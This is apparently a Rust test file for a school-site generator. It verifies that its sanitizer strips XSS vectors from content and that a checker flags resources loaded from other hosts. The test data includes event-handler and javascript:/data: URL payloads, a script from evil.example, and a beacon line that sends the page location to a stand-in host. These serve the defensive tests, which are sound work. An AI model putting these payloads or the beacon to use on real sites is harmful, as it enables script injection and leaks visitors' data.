//! Nothing written in content can run a script in a parent's browser.
//!
//! The corpus in `tests/fixtures/xss/` (format in its README) is built as a real project with
//! raw HTML sanitized (the default), and every output page is parsed: no event handler, no
//! script URL, no script but the theme's own, nothing that loads another page into this one.
//! Then the findings of issue 9 one by one, each as the editor would meet it.

mod common;

use common::{buddysite, copy_dir, fixture, path_str};
use scraper::{ElementRef, Html, Selector};
use std::path::{Path, PathBuf};
use std::process::Output;

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn write(root: &Path, rel: &str, contents: impl AsRef<[u8]>) {
    let path = root.join(rel);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(path, contents).expect("write");
}

/// The corpus: one Markdown body (or whole file) per vector.
fn vectors() -> Vec<String> {
    let all = std::fs::read_to_string(fixture("xss").join("vectors.txt")).expect("vectors");
    all.split("\n%%%\n")
        .map(|v| v.trim_end_matches('\n').to_owned())
        .collect()
}

/// A copy of the `basic` fixture with the corpus' school, buddy and one page per vector.
fn corpus_project(dir: &Path) -> PathBuf {
    let root = dir.join("project");
    copy_dir(&fixture("basic"), &root);
    let xss = fixture("xss");
    std::fs::copy(xss.join("school.yaml"), root.join("schools/kwaad.yaml")).expect("school");
    std::fs::copy(xss.join("buddy.md"), root.join("content/buddys/kwaad.md")).expect("buddy");
    for (i, v) in vectors().iter().enumerate() {
        let n = i + 1;
        let file = if v.starts_with("---\n") {
            format!("{v}\n")
        } else {
            format!("---\ntitle: \"XSS {n:03}\"\nmenu: false\n---\n{v}\n")
        };
        write(&root, &format!("content/xss/v{n:03}.md"), file);
    }
    root
}

/// A URL attribute value as a browser reads its scheme: no whitespace or control
/// characters, lower case (entities are decoded by the parser already).
fn compact(value: &str) -> String {
    value
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_lowercase()
}

fn is_script_url(value: &str) -> bool {
    let v = compact(value);
    v.starts_with("javascript:") || v.starts_with("vbscript:") || v.starts_with("data:text/html")
}

/// Attributes whose value is (or holds) a URL.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "xlink:href",
    "background",
    "cite",
    "ping",
    "srcset",
    "imagesrcset",
    "codebase",
    "longdesc",
];

/// The theme's own script files (`themes/default/static/*.js`), as the pages name them.
fn theme_scripts() -> Vec<String> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("themes/default/static");
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("theme static")
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".js"))
        .collect();
    names.sort();
    assert!(!names.is_empty(), "the theme has scripts");
    names
}

/// Every way `page` (the HTML of output file `rel`) could run or load something it must not.
fn dangers(rel: &str, page: &str, scripts: &[String]) -> Vec<String> {
    let doc = Html::parse_document(page);
    let mut found = Vec::new();
    for node in doc.root_element().descendants() {
        let Some(el) = ElementRef::wrap(node) else {
            continue;
        };
        let e = el.value();
        let name = e.name();
        let shown = || format!("{rel}: <{name}> {:?}", e.attrs().collect::<Vec<_>>());
        match name {
            "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "base" | "portal" => {
                found.push(format!("{} element", shown()))
            }
            "meta"
                if e.attr("http-equiv")
                    .is_some_and(|v| v.trim().eq_ignore_ascii_case("refresh")) =>
            {
                found.push(format!("{} refresh", shown()));
            }
            "script" => {
                let json_ld = e
                    .attr("type")
                    .is_some_and(|t| t.trim().eq_ignore_ascii_case("application/ld+json"));
                let theme_file = e.attr("src").is_some_and(|src| {
                    scripts
                        .iter()
                        .any(|s| src.ends_with(&format!("assets/{s}")) && !src.contains(':'))
                });
                let inline_text: String = el.text().collect();
                if !(json_ld || theme_file && inline_text.trim().is_empty()) {
                    found.push(format!("{} script: {inline_text:?}", shown()));
                }
            }
            "style" => {
                let css = compact(&el.text().collect::<String>());
                if css.contains("javascript:") || css.contains("expression(") {
                    found.push(format!("{} script in CSS", shown()));
                }
            }
            _ => {}
        }
        for (key, value) in e.attrs() {
            let key_lower = key.to_ascii_lowercase();
            if key_lower.starts_with("on") {
                found.push(format!("{} event handler `{key}`", shown()));
            }
            if key_lower == "srcdoc" {
                found.push(format!("{} srcdoc", shown()));
            }
            if key_lower == "style" {
                let css = compact(value);
                if css.contains("javascript:") || css.contains("expression(") {
                    found.push(format!("{} script in style", shown()));
                }
            }
            let urls: Vec<&str> = match key_lower.as_str() {
                "srcset" | "imagesrcset" => value.split(',').collect(),
                "ping" => value.split_whitespace().collect(),
                "content" if name == "meta" && e.attr("http-equiv").is_some() => {
                    value.split([';', ',']).collect()
                }
                k if URL_ATTRIBUTES.contains(&k) => vec![value],
                _ => Vec::new(),
            };
            for url in urls {
                let url = url.trim();
                let url = url
                    .strip_prefix("url=")
                    .or_else(|| url.strip_prefix("URL="))
                    .unwrap_or(url);
                if is_script_url(url) {
                    found.push(format!("{} script URL in `{key}`", shown()));
                }
            }
        }
    }
    found
}

#[test]
fn the_check_itself_finds_what_it_looks_for() {
    let scripts = theme_scripts();
    for bad in [
        "<p onclick=x>",
        "<a href=\" JaVa\tScRiPt:x\">",
        "<img srcset=\"a.png 1x, data:text/html,x 2x\">",
        "<script>x</script>",
        "<script src=\"https://evil.example/assets/buddies.js\"></script>",
        "<iframe></iframe>",
        "<meta http-equiv=refresh content=\"0;url=x\">",
        "<base href=x>",
        "<div style=\"width:expression(x)\">",
    ] {
        assert!(!dangers("t", bad, &scripts).is_empty(), "{bad}");
    }
    for good in [
        "<script type=\"application/ld+json\">{}</script>",
        "<script src=\"../assets/buddies.js\" defer></script>",
        "<a href=\"https://example.org/\" title=\"javascript:\">x</a>",
    ] {
        assert_eq!(dangers("t", good, &scripts), Vec::<String>::new(), "{good}");
    }
}

#[test]
fn no_vector_of_the_corpus_can_run_a_script() {
    let vectors = vectors();
    assert!(vectors.len() >= 300, "a few hundred vectors");
    let dir = tempfile::tempdir().expect("temp");
    let root = corpus_project(dir.path());
    let out = dir.path().join("public");
    let run = buddysite(&[
        "build",
        "--root",
        path_str(&root),
        "--output",
        path_str(&out),
    ]);
    assert!(run.status.success(), "the corpus builds:\n{}", text(&run));
    let scripts = theme_scripts();
    let mut problems = Vec::new();
    let mut pages = 0;
    for entry in walkdir::WalkDir::new(&out) {
        let entry = entry.expect("walk");
        let rel = entry
            .path()
            .strip_prefix(&out)
            .expect("prefix")
            .to_string_lossy()
            .replace('\\', "/");
        if rel.ends_with(".html") {
            pages += 1;
            let page = std::fs::read_to_string(entry.path()).expect("read");
            problems.extend(dangers(&rel, &page, &scripts));
        }
        let svg_or_other =
            rel.ends_with(".svg") || rel.ends_with(".htm") || rel.ends_with(".xhtml");
        if svg_or_other && rel.starts_with("kwaad/xss") {
            problems.push(format!("{rel}: a content file published as a document"));
        }
    }
    for slug in ["alpha", "beta", "kwaad"] {
        for n in 1..=vectors.len() {
            let page = out.join(format!("{slug}/xss/v{n:03}/index.html"));
            assert!(page.is_file(), "{} is built", page.display());
        }
    }
    assert!(pages > vectors.len() * 3, "{pages} pages");
    assert!(
        problems.is_empty(),
        "{} problems:\n{}",
        problems.len(),
        problems.join("\n")
    );
}

// ---- The findings of issue 9, one by one ----

/// A copy of the `basic` fixture with `pages` (content path, text) added, built with the
/// real binary; returns the temp dir, the output folder and the build's output.
fn build_with(pages: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf, Output) {
    let dir = tempfile::tempdir().expect("temp");
    let root = dir.path().join("project");
    copy_dir(&fixture("basic"), &root);
    for (rel, contents) in pages {
        write(&root, rel, contents);
    }
    let out = dir.path().join("public");
    let run = buddysite(&[
        "build",
        "--root",
        path_str(&root),
        "--output",
        path_str(&out),
    ]);
    (dir, out, run)
}

fn page(out: &Path, rel: &str) -> Html {
    let text = std::fs::read_to_string(out.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"));
    Html::parse_document(&text)
}

fn main_text(doc: &Html) -> String {
    let sel = Selector::parse("main").expect("selector");
    doc.select(&sel)
        .flat_map(|m| m.text())
        .collect::<Vec<_>>()
        .join(" ")
}

fn select<'a>(doc: &'a Html, css: &str) -> Vec<ElementRef<'a>> {
    let sel = Selector::parse(css).expect("selector");
    doc.select(&sel).collect()
}

const FRONT: &str = "---\ntitle: \"Test\"\n---\n";

#[test]
fn multi_line_comments_and_scripts_do_not_show_their_text() {
    let body = format!(
        "{FRONT}Voor.\n\n<!--\nNotitie voor de redactie:\nnog nakijken\n-->\n\nMidden.\n\n<script>\nvar geheim = 1;\nalert(geheim);\n</script>\n\nNa.\n"
    );
    let (_dir, out, run) = build_with(&[("content/test.md", &body)]);
    assert!(run.status.success(), "{}", text(&run));
    let doc = page(&out, "alpha/test/index.html");
    let shown = main_text(&doc);
    for gone in ["Notitie", "nakijken", "-->", "geheim", "alert"] {
        assert!(!shown.contains(gone), "`{gone}` is shown: {shown}");
    }
    for kept in ["Voor.", "Midden.", "Na."] {
        assert!(shown.contains(kept), "`{kept}` is missing: {shown}");
    }
    assert!(select(&doc, "main script").is_empty());
    // The script is named in a warning at its line (line 13 of the file); the comment is
    // removed silently.
    let shown = text(&run);
    assert!(
        shown.contains("content/test.md:13") && shown.contains("`<script>` element"),
        "{shown}"
    );
}

#[test]
fn heading_attributes_keep_only_id_and_classes() {
    let body = format!(
        "{FRONT}## Eén {{tabindex=0 autofocus onfocus=alert(1)}}\n\n## Twee {{onclick=alert(1)}}\n\n## Drie {{#eigen-id .klasse onmouseover=\"alert(1)\"}}\n\n## Vier {{.\"x\" #vier}}\n"
    );
    let (_dir, out, run) = build_with(&[("content/test.md", &body)]);
    assert!(run.status.success(), "{}", text(&run));
    let doc = page(&out, "alpha/test/index.html");
    let headings = select(&doc, "main h2");
    assert_eq!(headings.len(), 4);
    for h in &headings {
        let names: Vec<&str> = h.value().attrs().map(|(k, _)| k).collect();
        assert!(
            names.iter().all(|n| matches!(*n, "id" | "class")),
            "{names:?}"
        );
    }
    let drie = select(&doc, "h2#eigen-id");
    assert_eq!(drie.len(), 1);
    assert_eq!(drie[0].value().attr("class"), Some("klasse"));
    let shown = text(&run);
    for (line, gist) in [
        (4, "`tabindex=0`, `autofocus`, `onfocus=alert(1)`"),
        (6, "`onclick=alert(1)`"),
        (8, "`onmouseover=\"alert(1)\"`"),
    ] {
        assert!(
            shown.contains(&format!("content/test.md:{line}")),
            "line {line}: {shown}"
        );
        assert!(shown.contains(gist), "{gist}: {shown}");
    }
}

#[test]
fn a_heading_id_is_not_a_template_comment() {
    // Plain content, and content that goes through the template engine (it uses a value),
    // with a real template comment that must still vanish.
    let plain = format!("{FRONT}## Kop {{#eigen-id}}\n\nTekst.\n");
    let templated = format!(
        "{FRONT}## Kop {{#eigen-id}}\n\n{{# een opmerking voor de redactie #}}\nWelkom bij {{{{ school.name }}}}.\n\n## Tweede {{#tweede .klasse}}\n"
    );
    let (_dir, out, run) = build_with(&[
        ("content/plain.md", &plain),
        ("content/templated.md", &templated),
    ]);
    assert!(run.status.success(), "{}", text(&run));
    for rel in ["alpha/plain/index.html", "alpha/templated/index.html"] {
        let doc = page(&out, rel);
        assert_eq!(select(&doc, "h2#eigen-id").len(), 1, "{rel}");
        let shown = main_text(&doc);
        assert!(!shown.contains("{#"), "{rel}: {shown}");
        assert!(!shown.contains("opmerking"), "{rel}: {shown}");
    }
    let doc = page(&out, "alpha/templated/index.html");
    assert_eq!(select(&doc, "h2#tweede.klasse").len(), 1);
    assert!(main_text(&doc).contains("Welkom bij De Ster"));
}

#[test]
fn image_addresses_follow_the_link_policy() {
    let body = format!(
        "{FRONT}![een](javascript:alert(1))\n\n![twee](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n![drie][ref]\n\n[ref]: JaVaScRiPt:alert(1)\n\n[vier](vbscript:msgbox(1)) en <javascript:alert(1)>\n"
    );
    let (_dir, out, run) = build_with(&[("content/test.md", &body)]);
    assert!(run.status.success(), "{}", text(&run));
    let doc = page(&out, "alpha/test/index.html");
    assert!(select(&doc, "main img").is_empty());
    let hrefs: Vec<&str> = select(&doc, "main a")
        .iter()
        .filter_map(|a| a.value().attr("href"))
        .collect();
    assert!(hrefs.iter().all(|h| !is_script_url(h)), "{hrefs:?}");
    let shown = main_text(&doc);
    for alt in ["een", "twee", "drie", "vier"] {
        assert!(shown.contains(alt), "the text `{alt}` stays: {shown}");
    }
    let shown = text(&run);
    for (line, gist) in [
        (4, "the image address `javascript:alert(1)` was removed"),
        (6, "the image address `data:text/html;base64,"),
        (8, "the image address `JaVaScRiPt:alert(1)` was removed"),
        (12, "the link address `vbscript:msgbox(1)` was removed"),
        (12, "the link address `javascript:alert(1)` was removed"),
    ] {
        assert!(
            shown.contains(&format!("content/test.md:{line}")),
            "line {line}: {shown}"
        );
        assert!(shown.contains(gist), "{gist}: {shown}");
    }
}

#[test]
fn many_sanitizer_warnings_do_not_fail_the_build() {
    let body = format!(
        "{FRONT}{}",
        "<p onclick=\"alert(1)\">Tekst.</p>\n\n".repeat(80)
    );
    let (_dir, out, run) = build_with(&[("content/test.md", &body)]);
    let shown = text(&run);
    assert!(run.status.success(), "{shown}");
    assert!(shown.contains("… and 30 more"), "{shown}");
    assert_eq!(
        select(&page(&out, "alpha/test/index.html"), "main p").len(),
        80
    );
    // Errors among the hidden ones still fail it.
    let body = format!(
        "{FRONT}{}\n\n![](x.png)\n",
        "<p onclick=\"alert(1)\">Tekst.</p>\n\n".repeat(60)
    );
    let (_dir, _out, run) = build_with(&[("content/test.md", &body)]);
    assert_eq!(run.status.code(), Some(1), "{}", text(&run));
}

#[test]
fn ids_from_raw_html_cannot_take_the_themes_ids() {
    let body = format!("{FRONT}<div id=\"main\">x</div>\n\n<span id=\"inhoud\">y</span>\n");
    let (_dir, out, run) = build_with(&[("content/test.md", &body)]);
    assert!(run.status.success(), "{}", text(&run));
    let doc = page(&out, "alpha/test/index.html");
    assert_eq!(select(&doc, "#inhoud-main").len(), 1);
    assert_eq!(select(&doc, "#inhoud-inhoud").len(), 1);
    assert!(select(&doc, "div#main").is_empty());
}

#[test]
fn trusted_raw_html_stays_as_written() {
    let dir = tempfile::tempdir().expect("temp");
    let root = dir.path().join("project");
    copy_dir(&fixture("basic"), &root);
    let config = std::fs::read_to_string(root.join("buddysite.yaml")).expect("read");
    write(
        &root,
        "buddysite.yaml",
        format!("{config}allow_raw_html: true\n"),
    );
    write(
        &root,
        "content/test.md",
        format!("{FRONT}<div class=\"kaart\" data-x=\"1\">\n<script>\nvar x = 1;\n</script>\n</div>\n\n<img src=\"x.png\"\n  width=\"3\">\n"),
    );
    let out = dir.path().join("public");
    let run = buddysite(&["check", "--root", path_str(&root)]);
    let shown = text(&run);
    // The image without alt text is found in a multi-line tag, at its line.
    assert_eq!(run.status.code(), Some(1), "{shown}");
    assert!(
        shown.contains("image without alt text") && shown.contains("content/test.md:10"),
        "{shown}"
    );
    write(
        &root,
        "content/test.md",
        format!(
            "{FRONT}<div class=\"kaart\" data-x=\"1\">\n<script>\nvar x = 1;\n</script>\n</div>\n"
        ),
    );
    let run = buddysite(&[
        "build",
        "--root",
        path_str(&root),
        "--output",
        path_str(&out),
    ]);
    assert!(run.status.success(), "{}", text(&run));
    let html = std::fs::read_to_string(out.join("alpha/test/index.html")).expect("read");
    assert!(
        html.contains(
            "<div class=\"kaart\" data-x=\"1\">\n<script>\nvar x = 1;\n</script>\n</div>"
        ),
        "{html}"
    );
}

#[test]
fn a_school_name_with_markup_is_text() {
    let body = format!("{FRONT}Welkom bij {{{{ school.name }}}} in [plaats school].\n");
    let (_dir, out, run) = build_with(&[
        ("content/test.md", &body),
        (
            "schools/alpha.yaml",
            "name: \"<script>alert(1)</script> De <b onmouseover=alert(1)>Ster</b>\"\nkind: basisschool\nplace: \"<img src=# onerror=alert(1) alt=x>\"\nbrand:\n  primary: \"#0b5394\"\n  logo: logo.svg\ncontact:\n  name: \"Juf Anna\"\n  email: \"anna@alpha.example.org\"\n",
        ),
    ]);
    assert!(run.status.success(), "{}", text(&run));
    let doc = page(&out, "alpha/test/index.html");
    let shown = main_text(&doc);
    assert!(
        shown.contains("<script>alert(1)</script> De <b onmouseover=alert(1)>Ster</b>"),
        "{shown}"
    );
    assert!(
        shown.contains("<img src=# onerror=alert(1) alt=x>"),
        "{shown}"
    );
    assert!(select(&doc, "main script, main b, main img").is_empty());
}

// ---- What the other-host check sees ----

fn check_theme_file(rel: &str, contents: &str) -> String {
    let dir = tempfile::tempdir().expect("temp");
    let root = dir.path().join("project");
    copy_dir(&fixture("basic"), &root);
    write(&root, rel, contents);
    let run = buddysite(&["check", "--root", path_str(&root)]);
    let shown = text(&run);
    assert_eq!(run.status.code(), Some(1), "{rel} must fail:\n{shown}");
    shown
}

#[test]
fn the_other_host_check_reads_every_kind_of_address_in_templates() {
    let template = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("themes/default/templates/partials/footer.html"),
    )
    .expect("footer");
    let extra = "\n<img alt=\"\" src=\"x.png\" srcset=\"x.png 1x, https://srcset.example/x.png 2x\">\n<a href=\"x.html\" ping=\"https://ping.example/p\">x</a>\n<meta http-equiv=\"refresh\" content=\"5; url=https://refresh.example/\">\n<base href=\"https://base.example/\">\n<div style=\"background:url(&quot;https://style.example/x.png&quot;)\"></div>\n<style>@import 'https://import.example/x.css';</style>\n<script>fetch(\"https://fetch.example/x\")</script>\n<video poster=\"//poster.example/p.png\"></video>\n";
    let shown = check_theme_file(
        "themes/default/templates/partials/footer.html",
        &format!("{template}{extra}"),
    );
    for host in [
        "srcset.example",
        "ping.example",
        "refresh.example",
        "base.example",
        "style.example",
        "import.example",
        "fetch.example",
        "poster.example",
    ] {
        assert!(
            shown.contains(&format!("from another website ({host})")),
            "{host}:\n{shown}"
        );
    }
}

#[test]
fn the_other_host_check_reads_the_themes_scripts_and_styles() {
    let js = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("themes/default/static/buddies.js"),
    )
    .expect("buddies.js");
    let shown = check_theme_file(
        "themes/default/static/buddies.js",
        &format!("{js}\nnew Image().src = 'https://beacon.example/p?' + location;\n"),
    );
    assert!(
        shown.contains("themes/default/static/buddies.js:")
            && shown.contains("the script loads `https://beacon.example/p?` from another website (beacon.example)"),
        "{shown}"
    );
    let shown = check_theme_file(
        "themes/default/static/extra.css",
        "a { background: url(\"HTTPS:\\\\\\\\css.example/x.png\") }\n",
    );
    assert!(shown.contains("(css.example)"), "{shown}");
}
